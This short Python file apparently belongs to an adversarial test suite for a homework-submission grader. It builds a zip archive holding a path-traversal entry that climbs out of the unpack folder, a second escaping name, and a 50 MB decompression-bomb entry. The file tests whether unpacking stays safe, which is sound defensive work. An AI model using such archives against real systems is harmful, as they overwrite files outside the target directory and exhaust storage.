# attack: 59
# title: a zip archive with climbing and absolute names, and a bomb
# success: something is unpacked
# kind: submission
# naive: unpack
import json
import zipfile


def build(folder, notebook):
    (folder / "a07_backpropagation.ipynb").write_text(json.dumps(notebook))
    with zipfile.ZipFile(folder / "a07.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../../../@OUTSIDE@", "reached")
        archive.writestr("@OUTSIDE@", "reached")
        archive.writestr("bomb.txt", b"0" * (50 << 20))
